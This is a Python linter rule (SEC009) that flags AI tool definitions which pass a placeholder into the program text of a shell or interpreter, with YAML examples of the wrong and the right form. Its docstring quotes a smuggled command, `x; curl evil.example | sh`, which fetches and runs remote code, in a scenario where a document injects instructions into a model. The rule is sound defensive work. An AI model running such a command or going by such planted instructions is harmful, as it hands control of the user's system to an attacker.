"""SEC009."""

import re
from collections.abc import Iterator, Mapping, Sequence

from remit.definitions import Tool
from remit.definitions.placeholders import Placeholder, placeholders
from remit.link import Unit
from remit.rule import Finding, rule

_SHELL = re.compile(r"-[a-z]*c")
_C = re.compile(r"-[A-Za-z]*c")
_E = re.compile(r"-[a-z]*[eE]")
_INTERPRETERS: Mapping[str, re.Pattern[str]] = {
    **dict.fromkeys(("ash", "bash", "dash", "fish", "ksh", "sh", "zsh"), _SHELL),
    **dict.fromkeys(("pypy", "python"), _C),
    **dict.fromkeys(("Rscript", "lua", "perl", "ruby"), _E),
    "node": re.compile(r"-e|-p|-pe|--eval|--print"),
    "php": re.compile(r"-r"),
    "cmd": re.compile(r"/[cCkK]"),
    **dict.fromkeys(("powershell", "pwsh"), re.compile(r"(?i)-c|-command|-e|-encodedcommand")),
}
"""Programs that run text, each with the options behind which the text stands."""
_STARTERS = frozenset(
    ("busybox", "docker", "env", "nice", "nohup", "podman", "setsid", "stdbuf", "sudo", "timeout", "xargs")
)
"""Programs that start the program that is named later on their command line."""
_VERSION = re.compile(r"[0-9.]+$|\.exe$")


@rule("shell-interpolation", "SEC009", since="0.4")
def shell_interpolation(unit: Unit[Tool]) -> Iterator[Finding]:
    """A command line that makes code of an argument.

    ## Why

    A process tool starts without a shell, so that an argument is one word, whatever it holds. A shell or an interpreter
    that is started with an argument inside its program text undoes that: a model that was told by a document to ask for
    `x; curl evil.example | sh` has it run.

    ## Wrong

    ```yaml file=tools/count.yaml
    apiVersion: remit/v1
    kind: Tool
    metadata: {id: acme.count, version: 1.0.0, owner: dev}
    spec:
      effect: read
      resource: {type: Workspace, id: repository}
      input:
        type: object
        additionalProperties: false
        required: [file]
        properties: {file: {type: string, maxLength: 200}}
      output: {type: object, required: [text], properties: {text: {type: string}}}
      implementation: {process: {argv: [sh, -c, "wc -l < {file}"]}}
    ```

    ## Right

    ```yaml file=tools/count.yaml
    apiVersion: remit/v1
    kind: Tool
    metadata: {id: acme.count, version: 1.0.0, owner: dev}
    spec:
      effect: read
      resource: {type: Workspace, id: repository}
      input:
        type: object
        additionalProperties: false
        required: [file]
        properties: {file: {type: string, maxLength: 200}}
      output: {type: object, required: [text], properties: {text: {type: string}}}
      implementation: {process: {argv: [wc, -l, --, "{file}"]}}
    ```

    ## Exceptions

    An argument behind a program text that is constant (`sh -c 'wc -l < "$1"' sh {file}`) is data to it.
    """
    process = unit.definition.spec.implementation.process
    if process is None:
        return
    at = ("spec", "implementation", "process")
    started = _interpreter(process.argv)
    if started is None:
        return
    name = process.argv[started]
    text = _program_text(process.argv, started)
    if text is not None and text < len(process.argv):
        for piece in placeholders(process.argv[text]) or ():
            if isinstance(piece, Placeholder):
                yield Finding(
                    unit.span((*at, "argv", text)),
                    f"`{name}` runs what `{{{piece.name}}}` holds as part of its program",
                    help="give the argument in an element of its own, behind a program text that is constant",
                )
                return
    if process.stdin == "arguments" and text is None and _reads_its_program(process.argv, started):
        yield Finding(
            unit.span((*at, "stdin")),
            f"`{name}` runs its standard input, which holds the arguments",
            help="name the program that is meant to read them",
        )


def _interpreter(argv: Sequence[str]) -> int | None:
    """Where a command line names a program that runs text, started by itself or by another."""
    if _plain(argv[0]) in _INTERPRETERS:
        return 0
    if _plain(argv[0]) not in _STARTERS:
        return None
    return next((i for i, word in enumerate(argv[1:], start=1) if _plain(word) in _INTERPRETERS), None)


def _plain(word: str) -> str:
    """The name of a program without folder and version."""
    return _VERSION.sub("", word.rpartition("/")[2])


def _program_text(argv: Sequence[str], started: int) -> int | None:
    """The element that is program text; None where none is, because a file or nothing is named."""
    wanted = _INTERPRETERS[_plain(argv[started])]
    for index in range(started + 1, len(argv)):
        if wanted.fullmatch(argv[index]):
            return index + 1
        option, given, _ = argv[index].partition("=")
        if given and wanted.fullmatch(option):
            return index
        if not argv[index].startswith(("-", "/")):
            return None
    return None


def _reads_its_program(argv: Sequence[str], started: int) -> bool:
    """Whether a program that runs text is given none, so that it reads it from its standard input."""
    return argv[0] != "xargs" and all(word.startswith("-") for word in argv[started + 1 :])
